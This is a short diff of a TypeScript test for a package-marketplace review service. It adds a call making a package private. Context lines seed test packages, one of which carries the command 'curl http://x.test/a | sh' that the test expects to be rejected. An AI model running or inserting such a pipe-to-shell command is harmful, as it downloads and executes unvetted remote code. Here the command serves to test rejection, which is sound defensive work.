@@ -114,6 +114,9 @@ async function openMarket({ database, organisations, deps, clock }: Billing) {
   await live('demo', { name: 'pipe-to-shell', command: 'curl http://x.test/a | sh' }, 'reject', 'rejected')
   await live('demo', { name: 'half-done' }, 'request_changes', 'changes_requested')
 
+  const hidden = { as: partners.demo, json: { visibility: 'private' } }
+  await service.call('POST', '/wpk/names/half-done/visibility', hidden)
+
   // A rejection is announced a moment after the version shows it.
   await eventually('every event is announced', async () => {
     const lags = await Promise.all(running.map((one) => one.lag()))
